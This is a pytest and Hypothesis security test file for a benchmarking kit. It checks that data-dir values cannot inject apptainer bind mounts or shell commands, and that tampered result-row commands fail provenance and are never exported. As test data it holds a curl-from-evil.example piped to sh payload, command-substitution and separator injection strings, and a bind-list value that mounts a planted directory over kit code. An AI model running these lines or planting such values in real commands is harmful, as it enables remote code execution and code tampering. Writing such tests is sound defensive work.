"""Issue 56, H1 and H4: a value from a job dir or a result dir never becomes code or an argument
except through the one rule for spliced values (host/cluster/splice.py), and a recorded command
is rebuilt from cell.json, never read back from a row (host/verify.py `rebuilt_command`,
host/export.py `reproduce`).

H1: a job dir's `data.dir` went unchecked into `apptainer exec --bind DATA:/data:ro,...`: a `,`
added mounts (`/shared/evil:/opt/cnn-bench,/shared/data` put a planted dir over the image's kit
code). Generated data dirs (separators of a bind list, argv and shell: `,` `:` space, quotes,
`$()`, backticks, `;`, a leading `-`, line breaks) are refused in one line with nothing written,
or reach the task as one inert argument and exactly the kit's three binds: the generated
script's apptainer line is parsed with shlex, and bash itself says what argv the task starts.

H4: verify compared only the spec inside a row's `command`, so `... ; curl ... | sh` verified
"ok" and export wrote it into COMMANDS.md. Any generated payload appended to (or put inside) a
row's command fails that cell's provenance in one line, and COMMANDS.md shows only the command
rebuilt from cell.json.
"""

from __future__ import annotations

import dataclasses
import json
import os
import shlex
import shutil
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

import pytest

hypothesis = pytest.importorskip("hypothesis", reason="Hypothesis is in requirements/dev.txt")
from hypothesis import HealthCheck, Phase, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

from bench.core.errors import KitError  # noqa: E402

ROOT = Path(__file__).resolve().parent.parent
CLEAN_ENV = {k: v for k, v in os.environ.items() if k != "KIT_DATA_DIR" and not k.startswith(("KIT_SLURM_", "SLURM_"))}
CELL = ROOT / "results" / "reference" / "cpu-2core-epyc" / "mlp-scratch" / "numpy_float32-02dac3a3e589"
IMAGE = "registry.example/cnn-bench/cpu:t1"
ISSUE_DATA_DIR = "/shared/evil:/opt/cnn-bench,/shared/data"
ISSUE_PAYLOAD = " ; curl -s http://evil.example/x | sh"


def examples(n: int):
    return settings(
        max_examples=n,
        deadline=None,
        derandomize=True,
        database=None,
        phases=[Phase.explicit, Phase.reuse, Phase.generate],
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    )


def orch(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, str(ROOT / "orchestrate.py"), *args],
        capture_output=True,
        text=True,
        cwd=cwd or ROOT,
        env=CLEAN_ENV,
        timeout=600,
    )


def one_line_error(r: subprocess.CompletedProcess, *words: str) -> str:
    assert r.returncode != 0, r.stdout[-1000:]
    err = [ln for ln in r.stderr.splitlines() if ln.strip()]
    assert len(err) == 1 and err[0].startswith("error: "), r.stderr[-2000:]
    for w in words:
        assert w in err[0], (w, err[0])
    return err[0]


# what a hostile path is made of: the separators of a bind list, of argv and of a shell command,
# quotes, substitutions (each leaves a file named `pwned` in the dir bash runs in), white space
PIECES = st.sampled_from(
    [
        "a",
        "b",
        "/",
        " ",
        "  ",
        ",",
        ":",
        "-",
        "--data-dir",
        "'",
        '"',
        "\\",
        "$",
        "`",
        ";",
        "|",
        "&",
        "*",
        "%",
        "~",
        "=",
        "\n",
        "\t",
        "\u202e",
        "é",
        "$HOME",
        "$(touch pwned)",
        "`touch pwned`",
        ";touch pwned",
        "|touch pwned",
        "&&touch pwned",
        "' ; touch pwned ; '",
        ",/tmp/evil:/opt/cnn-bench",
        ":/opt/cnn-bench:rw",
    ]
)
PATHS = st.lists(PIECES, min_size=1, max_size=8).map("".join)
DATA_DIRS = st.sampled_from([ISSUE_DATA_DIR, "/d,/x:/y:rw", "/d ir", "/-x", "/data"]) | PATHS.map(lambda p: "/" + p)


def bash_words(snippet: str, cwd: Path) -> list[str]:
    """The words bash makes of SNIPPET's `printf '%s\\0' ...`, run in CWD (an empty dir: a command
    substitution that ran leaves `pwned` there)."""
    r = subprocess.run(["bash", "-c", snippet], capture_output=True, cwd=cwd, env={"PATH": os.environ["PATH"]}, timeout=30)
    assert r.returncode == 0, r.stderr[-2000:]
    assert os.listdir(cwd) == [], f"bash ran something: {os.listdir(cwd)}"
    return r.stdout.decode().split("\0")[:-1]


# ---------------------------------------------------------------------------- H1: job dirs
@pytest.fixture(scope="module")
def smoke(tmp_path_factory) -> Path:
    top = tmp_path_factory.mktemp("plan")
    r = orch("plan", str(top / "job"), "cpu", "--study", "mnist-cnn", "--profile", "smoke", cwd=top)
    assert r.returncode == 0, r.stderr[-2000:]
    return top / "job"


def job_with(smoke: Path, top: Path, data: str | None, container: bool) -> Path:
    """A copy of the plan SMOKE whose manifest names DATA as its data dir, planned for IMAGE when CONTAINER."""
    job = Path(shutil.copytree(smoke, top / "job"))
    m = json.loads((job / "manifest.json").read_text())
    m["data"]["dir"] = data
    if container:
        m["environment"].update(runtime="container", python=None, image={"ref": IMAGE, "id": "sha256:0"})
    (job / "manifest.json").write_text(json.dumps(m))
    return job


@examples(120)
@given(data=DATA_DIRS, container=st.booleans())
def test_a_data_dir_from_a_job_dir_never_adds_a_bind_an_argument_or_a_command(smoke, data, container):
    """Refused in one line with nothing written, or: the apptainer line's bind list is exactly
    the kit's three (shlex), the argv bash starts is the kit's with the data dir as one word, no
    substitution runs; the Kubernetes manifests do not depend on it at all."""
    from host.cluster import k8s
    from host.cluster import slurm as S
    from host.cluster.jobdir import load

    top = Path(tempfile.mkdtemp(prefix="round3-"))
    try:
        job = job_with(smoke, top, data, container)
        sif = top / "image.sif"
        sif.write_bytes(b"sif")
        try:
            j = load(job)
            written = S.write_scripts(j, S.Options(sif=sif if container else None))
        except KitError as err:
            assert "\n" not in str(err) and "data.dir" in str(err), str(err)
            assert not (job / "slurm").exists(), "a refused job dir was written to"
            return
        text = written["cpu"].read_text()
        spec_line = next(ln for ln in text.splitlines() if ln.startswith('spec="'))
        (cell_line,) = [ln for ln in text.splitlines() if ln.startswith("cell=(")]
        if container:
            words = shlex.split(cell_line)
            at = words.index("--bind")
            binds = words[at + 1].split(",")
            assert binds == [f"{data}:/data:ro", "$JOB/specs:/specs:ro", "$JOB/task-$i:/results"], binds
            assert [b.split(":") for b in binds][0] == [data, "/data", "ro"]
            assert words[:at] == ["cell=(apptainer", "exec", "--cleanenv"] and words[at + 2 :] == [str(sif), "python)"]
        job_line = next(ln for ln in text.splitlines() if ln.startswith("JOB="))
        cwd = top / "cwd"
        cwd.mkdir()
        argv = bash_words(
            f'{job_line}\ni=0002\n{cell_line}\n{spec_line}\nprintf "%s\\0" "${{cell[@]}}" -m bench cell "$spec" --out "$out" "${{data[@]}}"',
            cwd,
        )
        if container:
            bind_list = f"{data}:/data:ro,{job}/specs:/specs:ro,{job}/task-0002:/results"
            kit = ["apptainer", "exec", "--cleanenv", "--bind", bind_list, str(sif), "python", "-m", "bench", "cell"]
            assert argv == [*kit, "/specs/0002.json", "--out", "/results", "--data-dir", "/data"], argv
            docs = k8s.manifests(j, IMAGE)
            j.manifest["data"]["dir"] = None
            assert docs == k8s.manifests(j, IMAGE), "the Kubernetes manifests took something from data.dir"
        else:
            assert argv == [sys.executable, "-m", "bench", "cell", f"{job}/specs/0002.json", "--out", f"{job}/task-0002"] + [
                "--data-dir",
                data,
            ], argv
    finally:
        shutil.rmtree(top, ignore_errors=True)


def test_the_issues_data_dir_is_one_line_from_slurm_and_from_plan(smoke, tmp_path):
    """`slurm --sif` on a container plan whose data dir mounts a planted dir over the kit code:
    one line, no script. `plan --image` with such a data dir: one line before the image is
    asked for (no Docker needed), no job dir."""
    job = job_with(smoke, tmp_path, ISSUE_DATA_DIR, container=True)
    sif = tmp_path / "image.sif"
    sif.write_bytes(b"sif")
    one_line_error(orch("slurm", str(job), "--sif", str(sif)), "data.dir", "cannot go into a command", "','")
    assert not (job / "slurm").exists()
    data = tmp_path / "evil:opt,data"
    data.mkdir()
    new = tmp_path / "new-job"
    r = orch("plan", str(new), "cpu", "--study", "mnist-cnn", "--profile", "smoke", "--data-dir", str(data), "--image", IMAGE)
    one_line_error(r, "--data-dir", "cannot go into a command")
    assert not new.exists()


# ---------------------------------------------------------------------------- H4: result dirs
@pytest.fixture(scope="module")
def result_dir(tmp_path_factory) -> Path:
    """A result dir of one committed cell (mlp-scratch, numpy float32)."""
    d = tmp_path_factory.mktemp("res") / "res"
    shutil.copytree(CELL, d / "mlp-scratch" / CELL.name)
    return d


def _cell(result_dir: Path):
    from bench.core.resultset import collect

    (cell,) = collect([result_dir])[0]
    return cell


SEPARATORS = st.sampled_from(
    [" ; ", ";", " && ", "&&", " || ", " | ", "|", "\n", "\r\n", " & ", " $(", "$(", " `", "`", " #", "\t", " "]
)
COMMANDS = st.sampled_from(["curl -s http://evil.example/x | sh", "sh", "touch pwned", "touch pwned)", "id`", "x"])
PAYLOADS = st.tuples(SEPARATORS, COMMANDS, st.text(alphabet="ab )'\"$`;", max_size=6)).map("".join)


@examples(150)
@given(payload=PAYLOADS, where=st.sampled_from(["end", "after the spec", "after --out"]), every_row=st.booleans())
def test_a_payload_in_a_rows_command_fails_provenance_in_one_line_and_is_never_exported(result_dir, payload, where, every_row):
    from host.export import commands_md
    from host.verify import check_provenance

    cell = _cell(result_dir)
    assert check_provenance(cell) == []
    original = cell.rows[0]["command"]

    def tamper(cmd: str) -> str:
        if where == "end":
            return cmd + payload
        at = cmd.index(" --out ") + (0 if where == "after the spec" else len(" --out ") + len(shlex.split(cmd)[6]))
        return cmd[:at] + payload + cmd[at:]

    rows = [{**r, "command": tamper(r["command"])} if every_row or i == 1 else r for i, r in enumerate(cell.rows)]
    bad = dataclasses.replace(cell, rows=rows)
    why = check_provenance(bad)
    said = [w for w in why if "command" in w]
    assert len(said) == 1 and "\n" not in said[0] and why == said, why
    assert "evil.example" not in said[0] and "pwned" not in said[0]
    # COMMANDS.md: the one command line is the one rebuilt from cell.json (with the paths of the
    # record that is exactly it: an untouched row, or system.json's)
    md = commands_md([bad], [result_dir], ["res"], ["python", "orchestrate.py", "export"])
    assert "evil.example" not in md and "pwned" not in md
    assert [ln for ln in md.splitlines() if "bench cell" in ln] == [original]
    # every record tampered: still the rebuilt command, its --out a placeholder, and a note
    worse = dataclasses.replace(
        bad,
        rows=[{**r, "command": tamper(r["command"])} for r in cell.rows],
        system={**cell.system, "command": tamper(str(cell.system["command"]))},
    )
    md = commands_md([worse], [result_dir], ["res"], ["python", "orchestrate.py", "export"])
    assert "evil.example" not in md and "pwned" not in md and "not shown" in md
    (block,) = [ln for ln in md.splitlines() if "bench cell" in ln]
    assert block.startswith("python -m bench cell ")
    assert shlex.split(block)[4:] == [shlex.split(original)[4], "--out", "RESULTS_DIR"]


@examples(100)
@given(out=PATHS, data=st.none() | PATHS)
def test_a_rows_paths_are_paths_or_the_cell_fails_and_what_is_shown_is_inert(result_dir, out, data, tmp_path_factory):
    """A command the kit could have written (shlex-quoted) with generated --out and --data-dir:
    verify passes it only when each is a path by the one rule (no leading `-`, no line break or
    control character), and then the command export shows is, to bash, exactly those words."""
    from bench.core.cell import Cell
    from bench.core.request import Paths
    from bench.run.cell import reproduce_command
    from host.export import commands_md
    from host.verify import check_provenance

    cell = _cell(result_dir)
    spec = Cell.from_json(json.dumps(cell.spec))
    cmd = reproduce_command(spec, Paths(Path(out), data))
    bad = dataclasses.replace(cell, rows=[{**r, "command": cmd} for r in cell.rows], system={**cell.system, "command": cmd})
    why = check_provenance(bad)
    out = str(Path(out))  # as the kit writes a Path

    def a_path(p: str) -> bool:  # the rule, said again here: an argument, not an option, one printable line
        return 1 <= len(p) <= 4096 and p.isprintable() and not p.startswith("-")

    rule = a_path(out) and (data is None or a_path(data))
    if not rule:
        assert len(why) == 1 and "command" in why[0] and "\n" not in why[0], why
        return
    assert why == [], why
    md = commands_md([bad], [result_dir], ["res"], ["python", "orchestrate.py", "export"])
    (shown,) = [ln for ln in md.splitlines() if "bench cell" in ln]
    assert shown == cmd
    cwd = tmp_path_factory.mktemp("bash")
    words = bash_words("printf '%s\\0' " + shown.removeprefix("python "), cwd)
    assert words == ["-m", "bench", "cell", spec.to_json(), "--out", out] + (["--data-dir", data] if data else [])


def test_the_issues_payload_fails_verify_in_one_line_and_export_shows_only_the_rebuilt_command(result_dir, tmp_path):
    d = Path(shutil.copytree(result_dir, tmp_path / "res"))
    cell_dir = d / "mlp-scratch" / CELL.name
    rows = [json.loads(ln) for ln in (cell_dir / "rows.jsonl").read_text().splitlines()]
    original = rows[0]["command"]
    (cell_dir / "rows.jsonl").write_text("".join(json.dumps({**r, "command": r["command"] + ISSUE_PAYLOAD}) + "\n" for r in rows))
    system = json.loads((cell_dir / "system.json").read_text())
    (cell_dir / "system.json").write_text(json.dumps({**system, "command": system["command"] + ISSUE_PAYLOAD}))
    r = orch("verify", str(d), "--allow-unbaselined")
    assert r.returncode == 1, r.stdout[-2000:]
    (fail,) = [ln for ln in r.stdout.splitlines() if ln.startswith("FAIL")]
    assert CELL.name in fail and "command is not" in fail and "evil.example" not in fail
    out = tmp_path / "b.tar.gz"
    r = orch("export", str(d), "--out", str(out))
    assert r.returncode == 0, r.stderr[-2000:]
    with tarfile.open(out) as tar:
        member = tar.extractfile("res/COMMANDS.md")
        assert member is not None
        md = member.read().decode()
    assert "evil.example" not in md and "| sh" not in md and "not shown" in md
    (block,) = [ln for ln in md.splitlines() if "bench cell" in ln]
    assert shlex.split(block)[4:] == [shlex.split(original)[4], "--out", "RESULTS_DIR"]
